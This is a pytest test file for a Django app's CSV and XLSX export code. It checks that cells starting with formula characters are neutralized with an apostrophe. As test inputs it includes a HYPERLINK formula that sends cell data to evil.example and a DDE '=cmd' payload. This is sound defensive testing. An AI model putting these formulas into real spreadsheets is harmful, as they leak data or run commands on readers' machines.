"""CSV and XLSX downloads: text a spreadsheet would run as a formula comes out as plain text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tamyr.core.exports import csv_response, safe_cell, xlsx_response
from tests.factories import OrganizationFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "value",
    ["=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", HYPERLINK],
)
def test_safe_cell_neutralizes_formula_prefixes(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Otandastar Foundation", "Отандастар қоры", "a=b", "e-mail", ""])
def test_safe_cell_leaves_ordinary_text_alone(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    ("value", "expected"), [(None, ""), (True, "yes"), (False, "no"), (1990, 1990), (-5, -5), (2.5, 2.5)]
)
def test_safe_cell_keeps_numbers_as_numbers_and_spells_out_the_rest(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


def _csv(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff"), "a BOM so spreadsheet programs read UTF-8"
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_response_neutralizes_every_cell() -> None:
    rows = _csv(csv_response("test", ["=Header"], [["=1+2", "ok"]]))
    assert rows == [["'=Header"], ["'=1+2", "ok"]]


def test_xlsx_response_stores_formula_text_as_a_string_not_a_formula() -> None:
    response = xlsx_response("test", ["Name"], [[HYPERLINK]])
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + HYPERLINK


@pytest.mark.django_db
def test_organization_csv_export_prefixes_a_formula_name_with_an_apostrophe(client: Client) -> None:
    OrganizationFactory(name={"en": HYPERLINK})
    rows = _csv(client.get("/organizations/", {"export": "csv"}))
    assert rows[1][0] == "'" + HYPERLINK


@pytest.mark.django_db
def test_organization_xlsx_export_prefixes_a_formula_name_with_an_apostrophe(client: Client) -> None:
    OrganizationFactory(name={"en": HYPERLINK})
    response = client.get("/organizations/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == "'" + HYPERLINK
    assert sheet["A2"].data_type == "s"


@pytest.mark.django_db
def test_organization_export_neutralizes_formulas_in_every_column(client: Client) -> None:
    OrganizationFactory(name={"en": "Plain"}, city="=1+1", email="@evil.example")
    row = _csv(client.get("/organizations/", {"export": "csv"}))[1]
    assert row[3] == "'=1+1"
    assert row[5] == "'@evil.example"


def test_an_xlsx_export_keeps_text_with_control_characters_without_them() -> None:
    response = xlsx_response("people", ["Name"], [["Aigerim\x01 Bekova\x0b"]])
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=2, column=1).value == "Aigerim Bekova"
